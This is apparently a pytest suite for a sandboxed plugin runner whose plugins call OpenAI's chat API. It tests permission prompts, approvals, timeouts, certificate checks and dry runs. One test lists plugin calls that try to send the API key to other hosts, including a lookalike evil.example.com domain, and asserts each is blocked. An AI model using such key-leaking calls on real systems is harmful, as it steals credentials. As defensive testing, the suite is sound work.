"""The network through the front door: openai in all its forms, approvals, on a real HTTPS server."""

from __future__ import annotations

import io
import json
import shutil
import sys
from pathlib import Path

import pytest

from tests.conftest import sources_path
from tests.frontdoor import Door, Outcome
from tests.https.server import COMPLETION, Server

KEY = "sk-proj-Zq8wR2tYpL0vNxB4mK7sJd9fGhC3aE5u"
ASKS = 'function plugindef() finaleplugin.ExecuteHttpsCalls = true return "Ask" end\n'
CHAT = "/v1/chat/completions"

ASK = """
local ok, answer = openai.create_completion("gpt-4o", "Hyphenate Ave Maria", 0.2, 5)
print(ok, type(answer) == "table" and answer.choices[1].message.content or answer)
"""
OURS = ASKS + 'local openai = require "openai"\n' + ASK
LIBRARY = ASKS + 'local openai = require "library.openai"\n' + ASK
PYTHON = """
def plugindef(finaleplugin):
    finaleplugin.ExecuteHttpsCalls = True
    return "Ask"

def run(finale, openai, prefix):
    ok, answer = openai.create_completion("gpt-4o", "Hyphenate Ave Maria", 0.2, 5)
    print(str(ok).lower(), answer["choices"][0]["message"]["content"] if ok else answer, sep="\\t")
"""


@pytest.fixture
def options(door: Door, https_server: Server) -> list[str]:
    https_server.route(CHAT, 200, json.dumps(COMPLETION).encode(), Content_Type="application/json")
    prefix = door.file("pre.lua", f'openai_api_key = "{KEY}"')
    resolve = [part for option in https_server.resolve_options() for part in ("--resolve", option)]
    return [*resolve, "--ca-file", str(https_server.ca_file), "--prefix", str(prefix)]


ALLOW = ("--allow-post", "api.openai.com")


def original_library(door: Door) -> None:
    source = sources_path("lua-scripts", "src", "library", "openai.lua")
    (door.folder / "library").mkdir()
    shutil.copyfile(source, door.folder / "library" / "openai.lua")


def assert_asked_once(server: Server, done: Outcome) -> None:
    assert done.out == "true\tA-ve Ma-ri-a\n"
    (seen,) = server.seen
    assert (seen.method, seen.path, seen.server_name) == ("POST", CHAT, "api.openai.com")
    assert seen.headers["Authorization"] == f"Bearer {KEY}"
    assert seen.headers["Content-Type"] == "application/json"
    body = json.loads(seen.body)
    assert body["model"] == "gpt-4o"
    assert body["messages"] == [{"role": "user", "content": "Hyphenate Ave Maria"}]
    assert abs(body["temperature"] - 0.2) < 1e-9
    assert KEY not in done.out + done.err


def test_the_built_in_openai(door: Door, https_server: Server, options: list[str]) -> None:
    done = door.run(OURS, *options, *ALLOW)
    assert_asked_once(https_server, done)


def test_library_openai_is_the_built_in_one_where_the_script_has_none(
    door: Door, https_server: Server, options: list[str]
) -> None:
    assert_asked_once(https_server, door.run(LIBRARY, *options, *ALLOW))


def test_the_original_library_works_unmodified(door: Door, https_server: Server, options: list[str]) -> None:
    original_library(door)
    assert_asked_once(https_server, door.run(LIBRARY, *options, *ALLOW))


def test_a_python_plugin(door: Door, https_server: Server, options: list[str]) -> None:
    assert_asked_once(https_server, door.run(PYTHON, *options, *ALLOW, suffix=".py"))


def test_the_result_lists_network_and_permissions(
    door: Door, https_server: Server, options: list[str]
) -> None:
    result = door.run(OURS, *options, *ALLOW, "--json").json
    (request,) = result["network"]
    assert list(request) == ["method", "host", "status", "seconds"]
    assert (request["method"], request["host"], request["status"]) == ("POST", "api.openai.com", 200)
    assert 0 < request["seconds"] < 5
    assert result["permissions"] == {
        "requested": ["ExecuteHttpsCalls"], "granted": ["ExecuteHttpsCalls"], "used": ["ExecuteHttpsCalls"],
        "refused": [],
    }  # fmt: skip


@pytest.mark.parametrize("kind", ["ours", "original", "python"])
@pytest.mark.parametrize(
    ("route", "ours", "original"),
    [
        ("/401", "Incorrect API key provided.", "unauthorized"), ("/429", "Rate limit reached.", "too many requests"),
        ("/500", "500 Internal Server Error", "internal server error"), ("/not-json", "not a JSON object", "nil"),
        ("/cut-off", "", ""), ("/closed", "", ""), ("/redirect-here", "redirects elsewhere", "found"),
    ],
)  # fmt: skip
def test_no_failure_of_the_server_raises(
    door: Door, https_server: Server, options: list[str], kind: str, route: str, ours: str, original: str
) -> None:
    https_server.routes[CHAT] = https_server.routes[route]
    if kind == "original":
        original_library(door)
        done = door.run(LIBRARY, *options, *ALLOW)
    elif kind == "ours":
        done = door.run(OURS, *options, *ALLOW)
    else:
        done = door.run(PYTHON, *options, *ALLOW, suffix=".py")
    assert done.status == 0, done.err
    success, message = done.out.rstrip("\n").split("\t")
    # The original passes on what luaosutils says: 200 is success, whatever was in the body.
    assert success == ("true" if (kind, route) == ("original", "/not-json") else "false")
    assert (original if kind == "original" else ours) in message
    assert len(https_server.seen) == 1


def test_a_slow_server_costs_the_timeout_and_no_more(
    door: Door, https_server: Server, options: list[str]
) -> None:
    https_server.routes[CHAT] = https_server.routes["/silent"]
    done = door.run(OURS.replace(", 5)", ", 0.1)"), *options, *ALLOW, "--json")
    assert done.json["printed"].startswith("false\t")
    assert done.json["network"][0]["status"] is None
    assert done.json["seconds"] < 2


def test_the_run_s_time_limit_holds_for_a_request(
    door: Door, https_server: Server, options: list[str]
) -> None:
    https_server.routes[CHAT] = https_server.routes["/silent"]
    done = door.run(OURS.replace(", 5)", ", 60)"), *options, *ALLOW, "--timeout", "0.3", "--json")
    assert done.json["seconds"] < 2


def test_a_certificate_of_another_authority_is_refused(
    door: Door, https_server: Server, options: list[str]
) -> None:
    without = [option for option in options if option not in ("--ca-file", str(https_server.ca_file))]
    done = door.run(OURS, *without, *ALLOW)
    assert done.out.startswith("false\t")
    assert https_server.seen == []
    source = ASKS + "print(require 'luaosutils'.internet.get_sync('https://wrong-name.example.com/ok', 5))"
    assert door.run(source, *options).out.startswith("false\t")


# ---- permission and approval


def test_without_the_flag_require_is_refused_and_a_copy_fails_at_its_first_request(
    door: Door, https_server: Server, options: list[str]
) -> None:
    without = OURS.replace(ASKS, "")
    done = door.run(without, *options, *ALLOW, "--json")
    assert done.status == 4
    assert "ExecuteHttpsCalls" in done.json["message"]
    assert "the current permissions environment does not allow this function to run" in done.json["message"]
    done = door.run(PYTHON.replace("True", "False"), *options, *ALLOW, "--json", suffix=".py")
    assert done.status == 4
    assert "ExecuteHttpsCalls" in done.json["message"]
    assert https_server.seen == []


def test_a_script_s_own_copy_without_the_flag_fails_at_its_first_request(
    door: Door, https_server: Server, options: list[str]
) -> None:
    original_library(door)
    source = LIBRARY.replace(ASKS, "").replace("local ok", "print('loaded')\nlocal ok")
    done = door.run(source, *options, *ALLOW, "--json")
    assert (done.status, done.json["printed"]) == (4, "loaded\n")
    assert "ExecuteHttpsCalls" in done.json["message"]


@pytest.mark.parametrize("suffix", [".lua", ".py"])
def test_a_refused_post_gives_false_and_a_message_and_is_listed(
    door: Door, https_server: Server, options: list[str], suffix: str
) -> None:
    source = OURS if suffix == ".lua" else PYTHON
    for allow in ([], ["--allow-post", "other.example.com"], ["--allow-post", "api.openai.com:8443"]):
        done = door.run(source, *options, *allow, "--json", suffix=suffix)
        assert done.status == 0
        assert done.json["printed"].startswith("false\t")
        assert "--allow-post api.openai.com" in done.json["printed"]
        (refused,) = done.json["permissions"]["refused"]
        assert (refused["rule"], refused["what"]) == ("post", "POST to api.openai.com")
        assert done.json["network"] == []
    assert https_server.seen == []
    done = door.run(source, *options, suffix=suffix)
    assert "postlude: refused: POST to api.openai.com" in done.err


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def on_terminal(door: Door, typed: str) -> None:
    door.monkeypatch.setattr(sys, "stdin", Terminal(typed))
    door.monkeypatch.setattr(sys.stderr, "isatty", lambda: True, raising=False)


@pytest.mark.parametrize("suffix", [".lua", ".py"])
def test_a_person_is_asked_on_the_terminal(
    door: Door, https_server: Server, options: list[str], suffix: str
) -> None:
    source = OURS if suffix == ".lua" else PYTHON
    on_terminal(door, "o\n")
    done = door.run(source, *options, suffix=suffix)
    assert "wants to send data to api.openai.com" in done.err
    assert done.out == "true\tA-ve Ma-ri-a\n"
    for answer in ("n\n", "", "what\n"):
        on_terminal(door, answer)
        assert door.run(source, *options, suffix=suffix).out.startswith("false\t")
    assert len(https_server.seen) == 1


def test_nobody_is_asked_with_json(door: Door, https_server: Server, options: list[str]) -> None:
    on_terminal(door, "o\n")
    done = door.run(OURS, *options, "--json")
    assert done.json["printed"].startswith("false\t")
    assert done.err == ""


def test_always_holds_for_this_script_s_text_and_server(
    door: Door, https_server: Server, options: list[str]
) -> None:
    on_terminal(door, "a\n")
    assert door.run(OURS, *options).out.startswith("true")
    on_terminal(door, "")
    assert door.run(OURS, *options).out.startswith("true")
    assert (door.config / "approvals.json").is_file()
    assert door.run(OURS + " -- changed", *options).out.startswith("false")
    other = ASKS + "print(require 'luaosutils'.internet.post_sync('https://other.example.com/echo', 'x', 5))"
    assert door.run(other, *options).out.startswith("false")


def test_a_website_is_recorded_and_not_opened(door: Door, monkeypatch: pytest.MonkeyPatch) -> None:
    import webbrowser

    opened: list[str] = []
    monkeypatch.setattr(webbrowser, "open", opened.append)
    done = door.run("require 'luaosutils'.internet.launch_website('https://example.com/help')")
    assert done.status == 0
    assert "the plugin wants to open https://example.com/help" in done.err
    assert opened == []


def test_server_name_and_url_escape_are_free(door: Door) -> None:
    source = """
        local net = require("luaosutils").internet
        print(net.server_name("https://a.example.com/b"), net.url_escape("a b"))
    """
    assert door.run(source).out.split() == ["a.example.com", "a%20b"]


# ---- where the key goes


def test_the_key_goes_to_its_own_host_in_its_own_headers_only(
    door: Door, https_server: Server, options: list[str]
) -> None:
    allow = [*ALLOW, "--allow-post", "other.example.com"]
    head = ASKS + "local net = require 'luaosutils'.internet local key = openai_api_key\n"
    refused = [
        "net.get_sync('https://other.example.com/echo', 5, {Authorization = 'Bearer ' .. key})",
        "net.get_sync('https://api.openai.com/echo?key=' .. key, 5)",
        "net.get_sync('https://api.openai.com/echo', 5, {['X-Key'] = key})",
        "net.post_sync('https://api.openai.com/echo', key, 5)",
        "net.post_sync('https://other.example.com/echo', 'x' .. key, 5, {})",
        "net.get_sync('https://api.openai.com.evil.example.com/echo', 5, {Authorization = key})",
    ]
    for call in refused:
        done = door.run(head + call, *options, *allow, "--json")
        assert done.status == 4, call
        assert any(each["rule"] == "key" for each in done.json["permissions"]["refused"])
        assert "openai_api_key" in done.json["message"]
    assert all(KEY.encode() not in seen.text() for seen in https_server.seen)
    assert https_server.seen == []
    done = door.run(
        head + "print(net.get_sync('https://api.openai.com/echo', 5, {Authorization = 'Bearer ' .. key}))",
        *options,
    )
    # The server repeats the header: the script is given its placeholder back.
    assert json.loads(done.out.partition("\t")[2])["headers"]["Authorization"].startswith("Bearer sk-proj-")
    assert KEY not in done.out
    assert https_server.seen[0].headers["Authorization"] == f"Bearer {KEY}"


def test_openai_base_url_leads_to_a_local_model_over_http(door: Door, http_server: Server) -> None:
    http_server.route(CHAT, 200, json.dumps(COMPLETION).encode())
    prefix = door.file(
        "pre.lua",
        f'openai_api_key = "local-model-key" openai_base_url = "http://127.0.0.1:{http_server.port}/v1"',
    )
    done = door.run(OURS, "--prefix", prefix, "--allow-post", f"127.0.0.1:{http_server.port}")
    assert done.out == "true\tA-ve Ma-ri-a\n"
    assert http_server.seen[0].headers["Authorization"] == "Bearer local-model-key"
    # Read once, after the prefixes: what the script says later leads nowhere else.
    later = OURS.replace("local openai", 'openai_base_url = "http://127.0.0.1:1/v1" local openai')
    done = door.run(later, "--prefix", prefix, "--allow-post", f"127.0.0.1:{http_server.port}")
    assert done.out == "true\tA-ve Ma-ri-a\n"


def test_http_to_anywhere_else_is_not_sent(door: Door) -> None:
    prefix = door.file(
        "pre.lua", 'openai_api_key = "some-long-key" openai_base_url = "http://example.com/v1"'
    )
    done = door.run(OURS, "--prefix", prefix, "--allow-post", "example.com:80", "--json")
    assert done.json["printed"].startswith("false\t")
    assert done.json["network"] == []


def test_without_a_key_the_answer_says_where_to_put_it(door: Door) -> None:
    done = door.run(OURS, *ALLOW)
    assert done.out.startswith("false\t")
    assert "openai_api_key" in done.out
    assert "prefix" in done.out


def test_a_fourth_argument_of_another_kind_is_an_error_that_says_so(door: Door, options: list[str]) -> None:
    for wrong in ('"5"', "true", "{}"):
        done = door.run(OURS.replace(", 5)", f", {wrong})"), *options, *ALLOW, "--json")
        assert done.status == 1
        assert "expected number or function" in done.json["message"]
    assert door.run(OURS.replace(", 5)", ")"), *options, *ALLOW).out.startswith("true")


def test_a_ca_file_without_a_certificate_is_a_usage_error(door: Door, options: list[str]) -> None:
    bad = door.file("ca.pem", "not a certificate")
    without = [*options]
    without[without.index("--ca-file") + 1] = str(bad)
    done = door.run(OURS, *without, *ALLOW)
    assert (done.status, done.out) == (2, "")
    assert "ca.pem" in done.err


def test_host_approve_decides_in_python(
    tmp_path: Path, https_server: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    from postlude import Host
    from tests.frontdoor import PARTS

    https_server.route(CHAT, 200, json.dumps(COMPLETION).encode())
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    script = tmp_path / "plugin.lua"
    script.write_text(OURS, encoding="utf-8")
    asked: list[tuple[str, str, int]] = []

    def approve(name: str, server: str, port: int) -> bool:
        asked.append((name, server, port))
        return len(asked) > 1

    settings = {"resolve": https_server.resolve(), "ca_file": https_server.ca_file}
    with Host(data_dir=tmp_path / "data", config_dir=tmp_path / "config", approve=approve) as host:
        assert host.run(script, PARTS, **settings).printed.startswith("false")
        assert host.run(script, PARTS, **settings).printed.startswith("true")
        allowed = host.run(script, PARTS, allow_post=["api.openai.com"], **settings)
        assert allowed.printed.startswith("true")
    assert asked == [(str(script), "api.openai.com", 443)] * 2


def test_a_dry_run_shows_what_would_be_sent_and_sends_nothing(
    door: Door, https_server: Server, options: list[str]
) -> None:
    plugin = door.file("asks.lua", OURS + "print(asks_dry_run)\n")
    done = door("run", plugin, door.score(), *options, *ALLOW, "--dry-run")
    assert done.status == 0
    assert done.out == "false\tnothing is sent in a dry run (--dry-run)\ntrue\n"
    assert "would send POST https://api.openai.com/v1/chat/completions" in done.err
    assert "Hyphenate Ave Maria" in done.err
    assert KEY not in done.err
    assert https_server.seen == []


def test_a_plugin_that_knows_dry_runs_shows_its_request(door: Door) -> None:
    prefix = door.file("question.lua", 'ask_score_question = "How many staves are there?"')
    done = door("run", "ask_score", door.score(), "--prefix", prefix, "--dry-run")
    assert done.status == 0
    assert "How many staves are there?" in done.out


def test_a_dry_run_and_a_file_to_write_exclude_each_other(door: Door) -> None:
    done = door("run", "ask_score", door.score(), "--dry-run", "-o", door.folder / "out.musx")
    assert done.status == 2
    assert "not allowed with argument" in done.err
